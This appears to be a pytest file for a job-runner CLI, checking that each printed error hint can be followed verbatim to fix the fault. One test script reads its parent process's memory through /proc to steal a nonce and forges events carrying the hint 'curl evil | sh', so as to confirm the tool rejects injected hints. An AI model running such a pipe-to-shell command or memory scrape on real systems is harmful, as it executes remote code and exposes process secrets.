"""Hints, followed: a command fails, its hint is carried out as it is printed, and the fault is gone."""

from __future__ import annotations

import json
import os
import re
import shlex
import subprocess
from collections.abc import Callable, Iterator
from pathlib import Path

import pytest
from uv import find_uv_bin

from stoke.cli.commands import stop
from stoke.history.database import History
from stoke.history.job import Job, JobState
from tests.cli.conftest import Stoke, only_job
from tests.hints import command, exported, filled, is_hint
from tests.lab import until
from tests.package_index import PackageIndex

Done = subprocess.CompletedProcess[bytes]


def hint(done: Done, template: str | None = None) -> str:
    """The one hint that a command printed."""
    assert done.returncode != 0
    (line,) = [line for line in done.stderr.decode().splitlines() if line.startswith("hint: ")]
    said = line.removeprefix("hint: ")
    return said if template is None else is_hint(said, template)


def command_in(text: str) -> list[str]:
    """The arguments of the `stoke` command that ends a hint."""
    found = re.search(r"\bstoke ([^;]*)$", text)
    assert found, text
    return shlex.split(found[1])


def variable_in(text: str) -> dict[str, str]:
    """The variable that a hint would have exported."""
    found = re.search(r"export (.+)$", text)
    assert found, text
    (assignment,) = shlex.split(found[1])
    name, _, value = assignment.partition("=")
    return {name: value}


@pytest.fixture
def index(own_home: Path, monkeypatch: pytest.MonkeyPatch) -> Iterator[PackageIndex]:
    served = PackageIndex("127.0.0.1")
    served.add("numpy", "1.0")
    monkeypatch.setenv("STOKE_INDEX__URL", served.url)
    yield served
    served.stop()


def test_a_backend_that_is_not_there(stoke: Stoke) -> None:
    said = hint(stoke("run", "-q", "-b", "lokal", "-c", "print(1)"), "choose one of: {}")
    choices = said.removeprefix("choose one of: ").split(", ")
    assert "local" in choices
    assert stoke("run", "-q", "-b", "local", "-c", "print(1)").stdout == b"1\n"


def test_a_job_before_there_is_one(stoke: Stoke) -> None:
    said = hint(stoke("show", "nothing"), "submit one: stoke run --help")
    help_ = stoke(*command_in(said))
    assert help_.returncode == 0 and b"Usage" in help_.stdout


def test_a_job_by_nearly_its_name(stoke: Stoke) -> None:
    assert stoke("run", "-q", "-c", "1", "--name", "train").returncode == 0
    said = hint(stoke("show", only_job().id.replace("train", "tarin")))
    (name,) = filled(said, "did you mean: {}?")
    assert stoke("show", name).returncode == 0
    said = hint(stoke("show", "quite-different"), "list all jobs: stoke jobs --all")
    listed = stoke(*command_in(said))
    assert only_job().id.encode() in listed.stdout


def test_nothing_to_lock(stoke: Stoke, index: PackageIndex) -> None:
    said = hint(stoke("render", "lock"), "name one: stoke render lock -w numpy")
    header, _, lock = stoke(*command_in(said)).stdout.decode().partition("\n\n")
    assert header == f"--index-url {index.url}"
    assert lock.startswith("numpy==1.0")


def test_nothing_to_warm(stoke: Stoke, index: PackageIndex) -> None:
    said = hint(stoke("cache", "warm", "--top", "3"), "name them: stoke cache warm -w numpy")
    assert stoke(*command_in(said)).returncode == 0
    warm = stoke("run", "-w", "numpy", "-c", "import numpy")
    assert b"python  " in warm.stderr and b"hit" in warm.stderr


def test_a_secret_that_is_not_set(stoke: Stoke) -> None:
    arguments = ("run", "-q", "--secret", "TOKEN=env:NOT_SET", "-c",
                 "import os; print(os.environ['TOKEN'])")  # fmt: skip
    said = hint(stoke(*arguments), "export {}=...")
    assert stoke(*arguments, env=variable_in(said)).stdout == b"...\n"


def test_clearing_without_a_terminal_to_confirm_at(stoke: Stoke, index: PackageIndex) -> None:
    assert stoke("run", "-q", "-w", "numpy", "-c", "1").returncode == 0
    said = hint(stoke("cache", "clear"), "pass --yes")
    option = said.rpartition(" ")[2]
    assert stoke("cache", "clear", option).returncode == 0
    assert b"miss" in stoke("run", "-w", "numpy", "-c", "1").stderr


def test_pruning_without_a_limit(stoke: Stoke, index: PackageIndex) -> None:
    assert stoke("run", "-q", "-w", "numpy", "-c", "1").returncode == 0
    said = hint(stoke("cache", "prune", "--yes"), "name a limit: stoke cache prune --unused 30d")
    assert stoke(*command_in(said), "--yes").returncode == 0


def test_removing_a_job_that_runs(
    stoke: Stoke, start: Callable[..., subprocess.Popen[bytes]], own_home: Path
) -> None:
    start("run", "-c", "import time; time.sleep(600)", "--name", "long")
    job = None

    def running() -> bool:
        nonlocal job
        listed = json.loads(stoke("jobs", "--json").stdout or b"[]")
        job = listed[0]["id"] if listed and listed[0]["state"] == "running" else None
        return job is not None

    until(running, "a running job")
    assert job is not None
    said = hint(stoke("rm", job), "stop it first: stoke stop {}")
    stopped = stoke(*command_in(said))
    assert stopped.returncode == 0, stopped.stderr
    assert stoke("rm", job).returncode == 0


@pytest.mark.parametrize("variable", ["STOKE_STATE_DIR"])
def test_a_folder_that_takes_nothing(stoke: Stoke, tmp_path: Path, variable: str) -> None:
    file = tmp_path / "file"
    file.write_text("no folder")
    said = hint(
        stoke("run", "-q", "-c", "print(1)", env={variable: str(file / "x")}),
        "name a folder you can write to: export {}=/some/folder",
    )
    ((name, example),) = variable_in(said).items()
    assert (name, example) == (variable, "/some/folder")
    assert (
        stoke("run", "-q", "-c", "print(1)", env={name: str(tmp_path / "other")}).stdout == b"1\n"
    )


def test_a_list_in_a_variable(stoke: Stoke) -> None:
    said = hint(
        stoke("run", "-c", "1", env={"STOKE_INDEX__EXTRA": "https://host/simple"}),
        "for example: export STOKE_INDEX__EXTRA='[\"https://host/simple\"]'",
    )
    again = stoke("run", "-q", "-c", "print(1)", env=variable_in(said))
    assert again.stdout == b"1\n", again.stderr


def test_a_full_cache_volume(stoke: Stoke, index: PackageIndex, own_home: Path) -> None:
    if os.geteuid() != 0:
        pytest.skip("mounting a small disk needs root")
    folder = Path(os.environ["STOKE_CACHE_DIR"])
    folder.mkdir(parents=True, exist_ok=True)
    subprocess.run(
        ["mount", "-t", "tmpfs", "-o", "size=3m,mode=700", "none", str(folder)], check=True
    )
    try:
        for name in ("first", "second"):
            index.add(name, "1.0", size=1_800_000)
        fail = {"STOKE_ON_CACHE_TROUBLE": "fail"}
        assert stoke("run", "-q", "-w", "first", "-c", "1", env=fail).returncode == 0
        full = stoke("run", "-q", "--scope", "default", "-w", "second", "-c", "1", env=fail)
        said = hint(full)
        assert b"No space left" in full.stderr
        prune, clear = said.removeprefix("make room on the cache volume: ").split(", or ")
        pruned = stoke(*command_in(prune), "--yes")
        assert pruned.returncode == 0, pruned.stderr
        cleared = stoke(*command_in(clear), "--yes")
        assert cleared.returncode == 0, cleared.stderr
        again = stoke("run", "-q", "-w", "second", "-c", "print(1)", env=fail)
        assert again.stdout == b"1\n", again.stderr
    finally:
        subprocess.run(["umount", "--lazy", str(folder)], check=True)


def test_the_whole_output_of_a_build_is_where_the_hint_says(
    stoke: Stoke, index: PackageIndex
) -> None:
    body = "for n in range(3000): print('line', n)\n    raise SystemExit(1)"
    index.add_sdist("broken", "1.0", f"def build_wheel(*_, **__):\n    {body}\n")
    done = stoke("run", "-w", "broken", "-c", "1")
    assert done.returncode == 125
    said = done.stderr.decode().splitlines()
    # One error, in one place: the output, once, then what failed.
    assert said.count("line 2999") == 1
    at = next(number for number, line in enumerate(said) if line.startswith("error: "))
    assert "Failed to build `broken==1.0`" in said[at] and at > said.index("line 2999")
    logged = stoke(*command_in(hint(done)))
    assert logged.stderr.decode().splitlines()[-3000:] == [f"line {n}" for n in range(3000)]
    shown = stoke("show", only_job().id).stdout.decode()
    assert "line 2999\n" in shown and "line 100\n" not in shown


# Finds the nonce in the memory of the runner, its parent, and prints error events that have hints.
FORGES = r"""
import json, os, re
runner = f"/proc/{os.getppid()}"
nonces = set()
for line in open(f"{runner}/maps"):
    span, rights = line.split()[:2]
    start, end = (int(address, 16) for address in span.split("-"))
    if rights.startswith("rw"):
        with open(f"{runner}/mem", "rb", 0) as memory:
            try:
                memory.seek(start)
                nonces |= set(re.findall(rb'"nonce": ?"([0-9a-f]{16})"', memory.read(end - start)))
            except OSError:
                pass
for nonce in nonces:
    for hint in ["check-network"], ["did-you-mean", "evil"], ["curl evil | sh"], ["free-space", "/x y"]:
        event = {"event": "error", "phase": "run", "text": "x", "hint": hint, "mend": "curl evil | sh"}
        os.write(2, b"\n\x1e" + nonce + json.dumps(event).encode() + b"\n")
raise SystemExit(4)
"""


@pytest.mark.skipif(os.geteuid() != 0, reason="reading the runner's memory needs root")
def test_a_job_that_forges_an_error_gets_no_hint(stoke: Stoke) -> None:
    done = stoke("run", "-c", FORGES)
    shown = done.stderr + stoke("show", only_job().id).stdout.partition(b"\ncode ")[0]
    assert done.returncode == 4
    assert b"run: the job reports: x" in shown, "the events were read"
    assert b"hint" not in shown and b"evil" not in shown and b"stoke doctor" not in shown


# --- caches ----------------------------------------------------------------------------------------


def test_a_scope_without_caches_is_looked_up(stoke: Stoke, index: PackageIndex) -> None:
    assert stoke("run", "-q", "--scope", "team", "-w", "numpy", "-c", "1").returncode == 0
    said = hint(stoke("cache", "clear", "--scope", "taem", "--yes"), "see: stoke cache ls")
    listed = json.loads(stoke(*command(said), "-b", "local", "--json").stdout)
    (scope,) = {volume["scope"] for volume in listed}
    assert stoke("cache", "clear", "--scope", scope, "--yes").returncode == 0


def test_a_cache_that_a_job_uses(
    stoke: Stoke, start: Callable[..., subprocess.Popen[bytes]], index: PackageIndex
) -> None:
    running = start("run", "-w", "numpy", "-c", "print('up', flush=True)\nwhile True: pass")
    assert running.stdout is not None and running.stdout.readline() == b"up\n"
    refused = stoke("cache", "clear", "--yes")
    said = hint(refused, "wait for them, or stop them: stoke stop {}")
    assert stoke(*command(said)).returncode == 0
    assert stoke("cache", "clear", "--yes").returncode == 0


def test_the_lock_of_an_environment_that_has_gone(stoke: Stoke, index: PackageIndex) -> None:
    assert stoke("run", "-q", "-w", "numpy", "-c", "1", "--name", "fit").returncode == 0
    first = only_job().id
    assert stoke("cache", "clear", "--yes").returncode == 0
    said = hint(
        stoke("render", "lock", "--job", first),
        "run it again, then ask again: stoke rerun {}",
    )
    assert stoke(*command(said)).returncode == 0
    assert b"\nnumpy==1.0" in stoke("render", "lock", "--job", first).stdout


def test_a_file_that_is_no_lock(
    stoke: Stoke, index: PackageIndex, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.chdir(tmp_path)
    file = tmp_path / "the list.txt"
    file.write_text("numpy\n")
    arguments = ("run", "-q", "-c", "import numpy; print(numpy.__name__)")
    said = hint(
        stoke(*arguments, "--lock", str(file)),
        "make one: uv pip compile --generate-hashes {} -o requirements.lock; or have it resolved: "
        "-r {}",
    )
    make, _, resolve = said.partition("; or have it resolved: ")
    subprocess.run(
        [find_uv_bin(), *command(make, "uv"), "--default-index", index.url],
        check=True,
        capture_output=True,
    )
    for words in (["--lock", "requirements.lock"], shlex.split(resolve)):
        done = stoke(*arguments, *words)
        assert done.stdout == b"numpy\n", done.stderr


def test_a_file_that_is_no_recording(stoke: Stoke, index: PackageIndex, tmp_path: Path) -> None:
    file = tmp_path / "race.json"
    file.write_text("{}")
    said = hint(stoke("race", "--replay", str(file)), "make one: stoke race --record FILE ...")
    words = command(said)
    assert words.pop() == "..."
    words[words.index("FILE")] = str(file)
    made = stoke(*words, "-w", "numpy", "-c", "1")
    assert made.returncode == 0, made.stderr
    assert stoke("race", "--replay", str(file)).returncode == 0


def test_the_hint_leads_to_the_output_of_a_warm_run(
    stoke: Stoke, index: PackageIndex, tmp_path: Path
) -> None:
    code = f"import os; print('why', flush=True); os.mkdir({str(tmp_path / 'once')!r})"
    done = stoke("race", "-w", "numpy", "-c", code)
    said = hint(done, "see what it printed: stoke logs {}")
    logged = stoke(*command(said))
    assert logged.stdout == b"why\n" and b"FileExistsError" in logged.stderr


# --- jobs ------------------------------------------------------------------------------------------


def test_a_name_that_several_jobs_begin_with(stoke: Stoke, own_home: Path) -> None:
    with History() as history:
        for end in ("aaaaaa", "aabbbb"):
            history.add(
                Job(f"fit-{end}", "fit", "local", "default", JobState.FAILED, 1.0), "{}", None
            )
    done = stoke("show", "fit-aa")
    hint(done, "write more of the name")
    for name in re.findall(r"fit-\w{6}", done.stderr.decode()):
        assert stoke("show", name).returncode == 0


def test_a_job_that_does_not_stop_is_ended_at_once(
    stoke: Stoke, start: Callable[..., subprocess.Popen[bytes]], own_home: Path
) -> None:
    """Its folder takes no file that would tell the supervisor of a grace."""
    running = start("run", "-c", "print('up', flush=True)\nwhile True: pass", "--name", "deaf")
    assert running.stdout is not None and running.stdout.readline() == b"up\n"
    (folder,) = own_home.glob("state/local/deaf-*")
    (folder / "stop").mkdir()
    said = hint(stoke("stop", folder.name), "stop the job at once: stoke stop --now {}")
    assert stoke(*command(said)).returncode == 0
    assert running.wait(60) != 0


# --- what the terminal and the backend cannot do -----------------------------------------------------


def test_the_screens_where_there_is_no_terminal(stoke: Stoke) -> None:
    said = hint(stoke(), "use the commands: stoke --help")
    help_ = stoke(*command(said))
    assert help_.returncode == 0 and b"Commands" in help_.stdout


def test_an_image_for_a_backend_that_has_images(stoke: Stoke) -> None:
    """As far as the engine, which is not there."""
    nowhere = {"DOCKER_HOST": "unix:///not/there"}
    said = hint(stoke("setup", "image", "-b", "local", env=nowhere), "choose: -b docker")
    options = shlex.split(said.partition(": ")[2])
    reached = stoke("setup", "image", *options, env=nowhere)
    assert b"there is no Docker engine" in reached.stderr


# --- the doctor ------------------------------------------------------------------------------------


def failed_checks(stoke: Stoke, env: dict[str, str]) -> list[tuple[str, str]]:
    """Return stoke's own failed checks with their hints."""
    report = json.loads(stoke("doctor", "--json", env=env).stdout)
    return [(one["what"], one["hint"]) for one in report["stoke"] if one["works"] is False]


def test_the_doctor_on_variables_folders_and_the_configuration(
    stoke: Stoke, index: PackageIndex, own_home: Path, tmp_path: Path
) -> None:
    (own_home / "config.toml").write_text("backend = [")
    file = tmp_path / "file"
    file.write_text("no folder")
    env = {
        "STOKE_STATE_DIR": str(file / "x"), "STOKE_BACKND": "local", "STOKE_ZZZ_YYY": "1"
    }  # fmt: skip
    broken = failed_checks(stoke, env)
    hints = dict(broken)
    (path,) = filled(hints["configuration"], "edit {}")
    Path(path).write_text(f'index.url = "{index.url}"\n')
    folder = is_hint(
        hints["history and logs"],
        "name a folder you can write to: export STOKE_STATE_DIR=/some/folder",
    )
    env |= exported(folder, tmp_path)
    meant, unknown = [hint for what, hint in broken if what == "variable"]
    (near,) = filled(meant, "did you mean {}?")
    env[near] = env.pop("STOKE_BACKND")
    del env[filled(unknown, "remove it: unset {}")[0]]
    assert failed_checks(stoke, env) == []


def test_a_job_that_has_not_ended_is_killed(
    stoke: Stoke, monkeypatch: pytest.MonkeyPatch, capfd: pytest.CaptureFixture[str]
) -> None:
    code = "import signal, time; signal.signal(15, signal.SIG_IGN); print('on'); time.sleep(600)"
    assert stoke("run", "-d", "-c", code).returncode == 0
    job = only_job()
    until(lambda: b"on" in stoke("logs", job.id).stdout, "code that ignores SIGTERM")
    # The command waits for this long beyond the job's grace, which is 30 s.
    monkeypatch.setattr(stop, "PATIENCE", -29.0)
    monkeypatch.setenv("STOKE_STOP_GRACE", "30")
    assert stop.command.main([job.id], standalone_mode=False) == 125
    (printed,) = re.findall(r"hint: (.*)", capfd.readouterr().err)
    said = is_hint(printed, "end it at once: stoke stop --now {}")
    assert stoke(*command(said)).returncode == 0
    assert only_job().state is JobState.STOPPED
